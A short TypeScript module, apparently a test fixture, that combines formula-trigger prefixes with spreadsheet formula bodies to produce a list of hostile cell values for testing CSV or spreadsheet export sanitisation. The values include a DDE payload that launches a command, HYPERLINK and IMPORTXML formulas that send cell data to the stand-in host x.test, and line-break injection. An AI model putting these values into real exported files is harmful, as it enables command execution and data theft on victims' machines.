const LEADS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '  =', '\t\r='];
const REST = [
  '1+1',
  'HYPERLINK("http://x.test?"&A1,"ok")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)*"a,b"',
  'IMPORTXML(CONCAT("http://x.test",A1),"//a")\r\n=2',
];

/** Texts that a spreadsheet would run, or that break its rows, if they were written as they are. */
export const HOSTILE_CELLS: readonly string[] = LEADS.flatMap((lead) => REST.map((rest) => lead + rest));
